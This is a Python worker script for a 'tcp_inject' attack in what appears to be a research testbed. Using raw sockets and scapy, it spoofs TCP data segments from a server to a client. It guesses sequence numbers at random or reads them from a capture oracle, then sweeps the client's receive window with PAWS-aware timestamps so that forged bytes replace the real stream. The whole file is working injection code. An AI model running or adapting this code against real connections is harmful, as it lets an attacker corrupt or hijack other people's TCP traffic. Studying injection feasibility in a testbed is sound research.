"""Worker of ``tcp_inject``, run INSIDE the attacker node:
``python -m attacks._inject '<json config>'``.

It imports scapy, prints ``ready``, waits for ``go`` on stdin (so scapy's slow import is
not paid while the victim's transfer runs), then sends spoofed data segments from the
server's address and port to the client's, and prints one JSON report line.

- ``guessed``: ``count`` segments (at most ``duration_s`` of sending) whose sequence AND
  acknowledgment numbers are drawn uniformly from the 32-bit space. What an off-path
  attacker cannot know is guessed; what the testbed gives it for free (the 4-tuple, the
  freshest timestamp values) comes from the oracle, so that the sequence numbers are the
  only difference from the control.
- ``control``: the sequence numbers are read from the ORACLE (the testbed's own capture of
  the path, which no off-path attacker has): the client's latest ACK and window, the
  server's latest data, the freshest TSval (PAWS). For ``duration_s`` (or until the victim
  connection ends) the worker sweeps the range the client will accept next with small bursts
  of contiguous tiles, re-reading the oracle before each one.
"""

from __future__ import annotations

import json
import os
import random
import socket
import struct
import sys
import time
from pathlib import Path
from typing import Any

from testbed.model.wire import (
    ACK,
    FIN,
    RST,
    SEQ_MOD,
    SYN,
    Segment,
    read_pcap,
    seq_after,
    tcp_checksum,
)

TILE = 1000           # payload bytes per forged segment (below the path MTU with options)
TSVAL_AHEAD_MS = 100
ORACLE_WAIT_S = 5.0


def _conn(segs: list[Segment], cfg: dict[str, Any]) -> tuple[list[Segment], list[Segment]]:
    """(server->client, client->server) segments of the client's latest connection."""
    syns = [s for s in segs if s.src == cfg["client"] and s.dst == cfg["server"]
            and s.dport == cfg["port"] and s.flags & SYN and not s.flags & ACK]
    if not syns:
        return [], []
    cport = syns[-1].sport
    down = [s for s in segs if s.src == cfg["server"] and s.dst == cfg["client"]
            and s.sport == cfg["port"] and s.dport == cport]
    up = [s for s in segs if s.src == cfg["client"] and s.dst == cfg["server"]
          and s.sport == cport and s.dport == cfg["port"]]
    return down, up


def _state(cfg: dict[str, Any]) -> dict[str, Any] | None:
    """What the oracle says about the connection right now."""
    segs = read_pcap(Path(cfg["oracle"]))
    down, up = _conn(segs, cfg)
    syn = next((s for s in up if s.flags & SYN), None)
    synack = next((s for s in down if s.flags & SYN), None)
    acks = [s for s in up if s.flags & ACK and not s.flags & SYN]
    data = [s for s in down if s.length > 0]
    stamped = [s for s in down if s.tsval is not None]
    if not (syn and synack and acks and data and stamped):
        return None
    last_up = acks[-1]
    cws = syn.wscale if syn.wscale is not None and synack.wscale is not None else 0
    sws = synack.wscale if syn.wscale is not None and synack.wscale is not None else 0
    end = data[-1].end
    for s in data[-50:]:
        if seq_after(s.end, end):
            end = s.end
    return {"cport": syn.sport, "rcv_nxt": last_up.ack, "data_end": end,
            "rcv_wnd": last_up.win << cws, "snd_wnd": down[-1].win << sws,
            "client_seq": last_up.end, "tsval": stamped[-1].tsval, "tsval_at": stamped[-1].ts,
            "tsecr": last_up.tsval or 0, "oracle_age_s": round(time.time() - stamped[-1].ts, 4),
            "ended": any(s.flags & (FIN | RST) for s in up)}


def main() -> int:
    cfg = json.loads(sys.argv[1])
    from scapy.all import IP, TCP, Raw
    # IP_HDRINCL: the kernel fills in the IP checksum (and the id, left at zero).
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    if sys.stdin.readline().strip() != "go":
        return 1
    rng = random.Random(int.from_bytes(os.urandom(8), "big"))
    report: dict[str, Any] = {"mode": cfg["mode"], "sent": 0}
    marker = cfg["marker"].encode()
    t0 = time.monotonic()

    templates: dict[int, bytearray] = {}

    def send(st: dict[str, Any], seq: int, ack: int, size: int) -> None:
        """Send one forged segment. scapy builds the packet once per size; each segment is
        that template with its numbers patched in and the TCP checksum recomputed, so that
        a burst leaves at once (the control races the real data)."""
        # The last TSval in the capture was stamped before the packet waited in the access
        # router's queue; PAWS drops anything older than the newest TSval the client saw,
        # so aim a little into the future (PAWS accepts newer values).
        tsval = (st["tsval"] + int((time.time() - st["tsval_at"]) * 1000)
                 + TSVAL_AHEAD_MS) % SEQ_MOD
        if size not in templates:
            body = (marker * (size // len(marker) + 1))[:size]
            pkt = (IP(src=cfg["server"], dst=cfg["client"])
                   / TCP(sport=cfg["port"], dport=st["cport"], flags="PA", seq=0, ack=0,
                         window=min(st["snd_wnd"], 65535) or 502,
                         options=[("NOP", None), ("NOP", None), ("Timestamp", (0, 0))])
                   / Raw(body))
            templates[size] = bytearray(bytes(pkt))
        buf = templates[size]
        struct.pack_into("!II", buf, 24, seq, ack)            # TCP seq, ack
        struct.pack_into("!II", buf, 44, tsval, st["tsecr"])  # timestamp option values
        struct.pack_into("!H", buf, 36, 0)
        struct.pack_into("!H", buf, 36, tcp_checksum(bytes(buf[12:16]), bytes(buf[16:20]),
                                                     bytes(buf[20:])))
        sock.sendto(bytes(buf), (cfg["client"], 0))
        report["sent"] += 1

    try:
        # On a loaded machine the victim may not have shown up in the capture yet.
        st = _state(cfg)
        wait_until = time.monotonic() + ORACLE_WAIT_S
        while st is None and time.monotonic() < wait_until:
            time.sleep(0.05)
            st = _state(cfg)
        t0 = time.monotonic()
        if st is None:
            report["error"] = "the oracle shows no established connection with data yet"
            print(json.dumps(report), flush=True)
            return 0
        report["four_tuple"] = [cfg["server"], cfg["port"], cfg["client"], st["cport"]]
        if cfg["mode"] == "guessed":
            deadline = t0 + cfg["duration_s"]
            gap = 1.0 / cfg["rate_pps"]
            for i in range(cfg["count"]):
                # Paced: a burst would overflow the access router's queue and be lost there.
                wait = t0 + i * gap - time.monotonic()
                if wait > 0:
                    time.sleep(wait)
                if time.monotonic() > deadline:
                    break
                send(st, rng.randrange(SEQ_MOD), rng.randrange(SEQ_MOD), cfg["size"])
            elapsed = time.monotonic() - t0
            # A data segment is accepted only if its sequence number falls in the client's
            # receive window AND its ACK lies in [snd_una - max window, snd_nxt].
            p = (st["rcv_wnd"] / SEQ_MOD) * ((st["snd_wnd"] + 1) / SEQ_MOD)
            report.update({
                "elapsed_s": round(elapsed, 3),
                "rate_pps": round(report["sent"] / elapsed, 1) if elapsed else None,
                "rcv_wnd": st["rcv_wnd"], "ack_window": st["snd_wnd"],
                "p_accept_per_segment": p, "expected_accepted": p * report["sent"],
            })
        else:
            # The client's next expected byte, when a forged segment reaches it, lies past
            # the last data the oracle saw by however much waits in the access router's
            # queue (unknown, at most the queue's size). Sweep that range with small bursts
            # of contiguous tiles, re-reading the oracle before each: the tile that holds
            # the next expected byte on arrival is taken in order (its old part trimmed),
            # and the real bytes that follow are dropped as duplicates.
            deadline = t0 + cfg["duration_s"]
            step = cfg["burst"] * TILE
            offsets = list(range(0, cfg["sweep_bytes"], step))
            bursts = 0
            report["stopped"] = "duration"
            while time.monotonic() < deadline:
                fresh = _state(cfg)
                if fresh is None or fresh["ended"]:
                    report["stopped"] = "the victim connection ended"
                    break
                st = fresh
                base = st["data_end"] if seq_after(st["data_end"], st["rcv_nxt"]) \
                    else st["rcv_nxt"]
                off = offsets[bursts % len(offsets)]
                for i in range(cfg["burst"]):
                    send(st, (base + off + i * TILE) % SEQ_MOD, st["client_seq"], TILE)
                bursts += 1
                time.sleep(cfg["pause_s"])
            report.update({"bursts": bursts, "burst_tiles": cfg["burst"],
                           "sweep_bytes": cfg["sweep_bytes"],
                           "last_oracle_age_s": st["oracle_age_s"],
                           "elapsed_s": round(time.monotonic() - t0, 3)})
    finally:
        sock.close()
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
